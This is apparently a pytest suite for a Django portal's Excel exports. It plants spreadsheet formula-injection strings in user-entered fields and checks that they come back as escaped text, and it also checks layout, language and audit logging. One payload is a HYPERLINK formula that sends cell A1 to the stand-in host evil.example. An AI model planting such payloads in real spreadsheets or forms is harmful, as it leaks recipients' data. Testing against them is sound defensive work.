"""Every .xlsx the portal hands out: text never becomes a formula, and each file is laid out as staff expect.

``EXPORTS`` holds one case per export URL: it puts names that a spreadsheet
would run as formulas where users type them (unit names at sign-up, event
descriptions, region names) and downloads the file. The URLconf is walked
for every view that answers with an .xlsx, so a new export without a case
here fails ``test_every_xlsx_url_has_a_case``.
"""

import datetime
import inspect
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from auditlog.models import LogEntry
from django.conf import settings
from django.urls import clear_url_caches, path, resolve, reverse
from openpyxl import load_workbook

from apps.applications.assessments.models import Application
from apps.applications.experts.models import Expert, ExpertDraw
from apps.applications.opinions.models import (
    Consultation,
    ConsultationEntry,
    ConsultationRequest,
    Department,
    DepartmentOpinion,
    OpinionStatus,
    Verdict,
)
from apps.applications.recognitions.models import Recognition
from apps.applications.workflow.states import Status
from apps.core.excel import Column, xlsx_response, xlsx_table
from apps.offices.honours.models import Honour
from apps.offices.training.models import Training
from apps.oversight.incentives.catalogue import catalogue_load
from apps.oversight.incentives.models import IncentiveMeasure
from apps.oversight.incentives.services import incentive_grant_create
from apps.oversight.supervision.models import RectificationItem, SupervisionVisit, VisitKind
from apps.oversight.title_checks.models import RoundMethod
from apps.oversight.title_checks.services import check_round_start
from apps.registry.coordinators.models import Coordinator
from apps.registry.credit.models import RedListEntry
from apps.registry.units.models import Unit
from apps.reports.models import ReportKind, TargetTask
from apps.reports.services import report_build, report_request
from apps.standards.services import standard_load_file
from tests.factories import CampaignYearFactory, EnterpriseFactory, RegionFactory, RiskEventFactory, named
from tests.url_protection import iter_patterns

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass(frozen=True)
class Export:
    """Makes the hostile data an export will contain, and returns (user, url) to download it."""

    prepare: Callable


def _enterprises(cast, regions) -> list[Unit]:
    return [EnterpriseFactory(unit__name=name, unit__region=regions.county_x, credit_grade="A").unit
            for name in HOSTILE]


def _registry(cast, regions):
    _enterprises(cast, regions)
    return cast.county_admin_x, reverse("registry:unit_export")


def _province(cast, regions):
    for unit in _enterprises(cast, regions):
        named(unit, city=regions.city, by=cast.city_admin, issued_on=datetime.date(2024, 12, 1))
    return cast.city_admin, reverse("named_units:province_excel") + "?year=2024"


def _incentives(cast, regions):
    catalogue_load(region=regions.city)
    measure = IncentiveMeasure.objects.get(region=regions.city, code="fewer-inspections")
    for unit in _enterprises(cast, regions):
        title = named(unit, city=regions.city, by=cast.city_admin, issued_on=datetime.date(2024, 12, 1))
        incentive_grant_create(measure=measure, recognition=title, granted_on=datetime.date(2025, 1, 1),
                               by=cast.city_admin)
    return cast.county_admin_x, reverse("incentives:measure_export", args=[measure.pk]) + "?year=2025"


def _risks(cast, regions):
    for unit in _enterprises(cast, regions):
        RiskEventFactory(unit=unit, description=unit.name, source=unit.name)
    return cast.county_admin_x, reverse("risks:export")


def _report(cast, regions):
    # Region names reach the city report's county table; a county admin of the province's system types them.
    for name in HOSTILE:
        RegionFactory(name=name, parent=regions.city)
    report = report_request(kind=ReportKind.CITY, region=regions.city, year=2025, by=cast.city_admin)
    report_build(report_id=report.pk)
    return cast.city_admin, reverse("reports:download", args=[report.pk, "xlsx"])


def _catalogue(cast, regions):
    for n, name in enumerate(HOSTILE):
        IncentiveMeasure.objects.create(region=regions.county_x, code=f"hostile-{n}", name=name, department="人社局")
    return cast.county_admin_x, reverse("incentives:catalogue_export")


def _opinions(cast, regions):
    # Unit names reach the department consultation's answers (apps/applications/opinions).
    standard, _ = standard_load_file(path=settings.BASE_DIR / "fixtures" / "standards" / "demo_all_features.yaml")
    campaign = CampaignYearFactory(city=regions.city)
    consultation = Consultation.objects.create(region=regions.city, year=campaign.year, title="征求意见",
                                               deadline=datetime.date.today(), sent_by=cast.city_admin)
    request = ConsultationRequest.objects.create(
        consultation=consultation, department=Department.objects.create(region=regions.city, name="税务局"))
    for unit in _enterprises(cast, regions):
        application = Application.objects.create(unit=unit, campaign_year=campaign, standard=standard,
                                                 status=Status.CITY_CONFIRMED)
        entry = ConsultationEntry.objects.create(consultation=consultation, application=application)
        DepartmentOpinion.objects.create(request=request, entry=entry, verdict=Verdict.OBJECTION, reasons="欠税",
                                         status=OpinionStatus.PENDING)
    return cast.city_admin, reverse("opinions:export", args=[consultation.pk])


def _this_year() -> int:
    return datetime.date.today().year


def _trainings(cast, regions):
    for name in HOSTILE:
        Training.objects.create(held_on=datetime.date(_this_year(), 1, 3), kind="topic", region=regions.county_x,
                                organiser="三方办公室", topic=name, recorded_by=cast.county_admin_x)
    return cast.county_admin_x, reverse("training:export")


def _coordinator_hours(cast, regions):
    training = Training.objects.create(held_on=datetime.date(_this_year(), 1, 3), kind="topic",
                                       region=regions.county_x, organiser="三方办公室", topic="协调员培训",
                                       recorded_by=cast.county_admin_x)
    training.coordinators.set([Coordinator.objects.create(full_name=name, region=regions.county_x)
                               for name in HOSTILE])
    return cast.county_admin_x, reverse("training:coordinator_hours_export")


def _honours(cast, regions):
    for name in HOSTILE:
        Honour.objects.create(year=_this_year(), category="individual", title="先进个人", level="county",
                              region=regions.county_x, recipient=name, recorded_by=cast.county_admin_x)
    return cast.county_admin_x, reverse("honours:export")


def _supervision(cast, regions):
    visit = SupervisionVisit.objects.create(supervisor=regions.city, region=regions.county_x,
                                            visited_on=datetime.date(_this_year(), 1, 2), kind=VisitKind.SPOT,
                                            participants="市人社局", findings="台账不全", recorded_by=cast.city_admin)
    for name in HOSTILE:
        RectificationItem.objects.create(visit=visit, description=name, responsible=regions.county_x,
                                         deadline=datetime.date(_this_year(), 12, 31))
    return cast.city_admin, reverse("supervision:export")


def _targets(cast, regions):
    for name in HOSTILE:
        TargetTask.objects.create(region=regions.county_x, year=_this_year(), title=name, department="县人社局",
                                  deadline=datetime.date(_this_year(), 12, 31), assigned_by=cast.city_admin)
    return cast.county_admin_x, reverse("reports:target_export")


def _experts(cast, regions):
    for name in HOSTILE:
        Expert.objects.create(region=regions.county_x, name=name, party="hrss", employer="某研究院")
    return cast.county_admin_x, reverse("experts:export")


def _red_list(cast, regions):
    for unit in _enterprises(cast, regions):
        RedListEntry.objects.create(enterprise=unit.enterprise, listed_on=datetime.date(2025, 1, 2),
                                    listed_by="临汾市人社局", reason=unit.name, entered_by=cast.county_admin_x)
    return cast.county_admin_x, reverse("registry:red_list_export") + "?state=all"


def _titles_ending(cast, regions):
    for unit in _enterprises(cast, regions):
        title = named(unit, city=regions.city, by=cast.city_admin, issued_on=datetime.date(2024, 12, 1))
        Recognition.objects.filter(pk=title.pk).update(valid_until=datetime.date.today() + datetime.timedelta(30))
    return cast.county_admin_x, reverse("titles:ending_export")


def _hostile_applications(cast, regions) -> list[Application]:
    standard, _ = standard_load_file(path=settings.BASE_DIR / "fixtures" / "standards" / "demo_all_features.yaml")
    campaign = CampaignYearFactory(city=regions.city)
    return [Application.objects.create(unit=unit, campaign_year=campaign, standard=standard, status=Status.DRAFT,
                                       on_behalf=True, filed_by=cast.township_staff_x, on_behalf_reason=unit.name)
            for unit in _enterprises(cast, regions)]


def _applications(cast, regions):
    _hostile_applications(cast, regions)
    return cast.county_admin_x, reverse("assessments:export") + "?on_behalf=1"


def _draws(cast, regions):
    for application in _hostile_applications(cast, regions):
        ExpertDraw.objects.create(application=application, seed="5eed", by=cast.county_admin_x)
    return cast.county_admin_x, reverse("experts:draws_export")


def _title_checks(cast, regions):
    for unit in _enterprises(cast, regions):
        named(unit, city=regions.city, by=cast.city_admin)
    check_round_start(office=regions.city, region=regions.county_x, year=_this_year(), method=RoundMethod.CENSUS,
                      by=cast.city_admin)
    return cast.city_admin, reverse("title_checks:export") + f"?year={_this_year()}"


def _items(cast, regions):
    _supervision(cast, regions)
    return cast.county_admin_x, reverse("supervision:items_export")


EXPORTS = {
    "registry:red_list_export": Export(_red_list),
    "titles:ending_export": Export(_titles_ending),
    "assessments:export": Export(_applications),
    "experts:draws_export": Export(_draws),
    "supervision:items_export": Export(_items),
    "title_checks:export": Export(_title_checks),
    "training:export": Export(_trainings),
    "training:coordinator_hours_export": Export(_coordinator_hours),
    "honours:export": Export(_honours),
    "supervision:export": Export(_supervision),
    "reports:target_export": Export(_targets),
    "experts:export": Export(_experts),
    "opinions:export": Export(_opinions),
    "registry:unit_export": Export(_registry),
    "named_units:province_excel": Export(_province),
    "incentives:measure_export": Export(_incentives),
    "incentives:catalogue_export": Export(_catalogue),
    "risks:export": Export(_risks),
    "reports:download": Export(_report),
}
# Import templates carry no user data; their drop-down lists are tested in tests/core/test_excel_imports.py.
TEMPLATES = {"registry:import_template", "registry:import_template_parks", "registry:import_template_industries",
             "risks:import_template", "reports:indicator_template"}


@pytest.fixture(autouse=True)
def _private_media(settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"


def _download(client, cast, regions, name: str):
    user, url = EXPORTS[name].prepare(cast, regions)
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return response, load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_text_that_looks_like_a_formula_comes_back_as_text(client, cast, regions, name):
    _, book = _download(client, cast, regions, name)
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                for hostile in HOSTILE:
                    if isinstance(cell.value, str) and cell.value.endswith(hostile):
                        found[hostile] = cell
                assert cell.data_type != "f", f"{name}: {sheet.title}!{cell.coordinate} is a formula: {cell.value}"
    assert set(found) == set(HOSTILE), f"{name}: not every hostile name was exported: {sorted(found)}"
    for hostile, cell in found.items():
        assert cell.data_type == "s" and cell.value == "'" + hostile, (name, cell.coordinate, cell.value)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_each_export_has_a_bold_frozen_filtered_header_and_prints_on_a4(client, cast, regions, name):
    response, book = _download(client, cast, regions, name)
    assert response["Content-Type"] == XLSX
    listing = next(sheet for sheet in book.worksheets if sheet.auto_filter.ref)
    header_row = int(listing.freeze_panes[1:]) - 1
    header = [cell for cell in listing[header_row] if cell.value]
    assert header and all(cell.font.b for cell in header)
    assert listing.auto_filter.ref.startswith(f"A{header_row}:")
    assert listing.page_setup.paperSize == 9 and listing.page_setup.orientation == "landscape"
    assert listing.print_title_rows.endswith(f"${header_row}")
    assert all(listing.column_dimensions[cell.column_letter].width >= 6 for cell in header)


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_each_export_is_recorded_in_the_audit_trail_as_its_user(client, cast, regions, name):
    user, url = EXPORTS[name].prepare(cast, regions)
    client.force_login(user)
    before = LogEntry.objects.filter(action=LogEntry.Action.ACCESS, actor=user).count()
    response = client.get(url)
    assert response.status_code == 200
    entries = LogEntry.objects.filter(action=LogEntry.Action.ACCESS, actor=user).order_by("-pk")
    assert entries.count() == before + 1, f"{name}: the export was not recorded"
    assert "导出" in entries.first().changes


def _content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _header(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    listing = next(sheet for sheet in book.worksheets if sheet.auto_filter.ref)
    return [listing.title] + [cell.value for cell in listing[int(listing.freeze_panes[1:]) - 1] if cell.value]


def _sheets(content: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(content))
    return [[sheet.title, [[cell.value for cell in row] for row in sheet.iter_rows()]] for sheet in book.worksheets]


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_each_export_is_written_in_chinese_whatever_the_session_language(client, cast, regions, name):
    """Excel exports are official working files, as the printed documents are: an office's spreadsheets read alike
    whoever downloads them. A user who reads the portal in English gets the same Chinese sheet name and headers,
    and the same Chinese choice labels in the rows (not English ones under Chinese headers)."""
    user, url = EXPORTS[name].prepare(cast, regions)
    client.force_login(user)
    headers, sheets = {}, {}
    for language in ("zh-hans", "en"):
        client.cookies["django_language"] = language
        content = _content(client.get(url))
        headers[language], sheets[language] = _header(content), _sheets(content)
    assert sheets["en"] == sheets["zh-hans"], name
    assert all(re.search(r"[\u4e00-\u9fff]", title) for title in headers["en"]), (name, headers["en"])


def test_an_english_readers_export_has_chinese_choice_labels(client, cast, regions):
    user, url = _applications(cast, regions)
    client.force_login(user)
    client.cookies["django_language"] = "en"
    listing = _sheets(_content(client.get(url)))[0][1]
    header = listing[0]
    rows = listing[1:]
    assert len(rows) == len(HOSTILE)
    assert {row[header.index("状态")] for row in rows} == {"草稿"}
    assert {row[header.index("帮办代办")] for row in rows} == {"是"}
    user, url = _registry(cast, regions)
    client.force_login(user)
    listing = _sheets(_content(client.get(url)))[0][1]
    kinds = {row[listing[0].index("单位类型")] for row in listing[1:]}
    assert kinds == {"企业"}


def _wrapped_by(view) -> set[str]:
    """The functions a view is made of, by their code's own name (functools.wraps gives each wrapper the view's)."""
    names = set()
    while view is not None:
        names.add(view.__code__.co_qualname)
        view = getattr(view, "__wrapped__", None)
    return names


def test_every_excel_view_runs_in_the_official_language():
    """Each view that writes an .xlsx runs in official.in_official_language (the report download serves a file its
    build wrote so); a new export without it fails here before a reader meets a half-English file."""
    official = "in_official_language.<locals>.in_chinese"
    written_here = (set(EXPORTS) | TEMPLATES) - {"reports:download"}
    missing = sorted(name for name, sample in iter_patterns()
                     if name in written_here and official not in _wrapped_by(resolve(sample).func))
    assert missing == []


def test_credit_codes_are_text_in_the_province_list(client, cast, regions):
    _, book = _download(client, cast, regions, "named_units:province_excel")
    sheet = book.active
    header = [cell.value for cell in sheet[2]]
    column = header.index("统一社会信用代码")
    codes = [row[column] for row in sheet.iter_rows(min_row=3)]
    assert len(codes) == len(HOSTILE)
    assert all(cell.data_type == "s" and len(cell.value) == 18 and cell.number_format == "@" for cell in codes)


def _views_answering_xlsx() -> set[str]:
    """URL names whose view builds or serves an .xlsx (found in the view's code, so no list to forget)."""
    names = set()
    for name, sample in iter_patterns():
        view = inspect.unwrap(resolve(sample).func)
        try:
            source = inspect.getsource(view)
        except (OSError, TypeError):
            continue
        if "xlsx" in source.lower():
            names.add(name)
    return names


def test_every_xlsx_url_has_a_case():
    assert _views_answering_xlsx() == set(EXPORTS) | TEMPLATES


def test_the_walk_finds_a_new_export(settings):
    """The check above must fail when someone adds an export: the walk sees it."""
    from hlr_portal import urls as real_urls

    def new_export(request):
        return xlsx_response(xlsx_table(title="新导出", columns=[Column("单位名称")], rows=[]), filename="new.xlsx")

    class Urlconf:
        urlpatterns = [*real_urls.urlpatterns, path("new-export.xlsx", new_export, name="new_export")]

    settings.ROOT_URLCONF = Urlconf
    clear_url_caches()
    try:
        found = _views_answering_xlsx()
    finally:
        clear_url_caches()
    assert "new_export" in found


APP_DIR = Path(settings.BASE_DIR) / "apps"
# The writer and the import reader.
OPENPYXL_IMPORT = re.compile(r"^\s*(from|import) openpyxl", re.MULTILINE)
MAY_USE_OPENPYXL = {APP_DIR / "core" / "excel.py", APP_DIR / "core" / "excel_import.py"}


def test_only_the_one_writer_and_reader_touch_openpyxl():
    """A module writing its own workbook would bypass the formula guard; the URL walk would not see a task."""
    offenders = [
        str(path.relative_to(settings.BASE_DIR)) for path in APP_DIR.rglob("*.py")
        if path not in MAY_USE_OPENPYXL and OPENPYXL_IMPORT.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
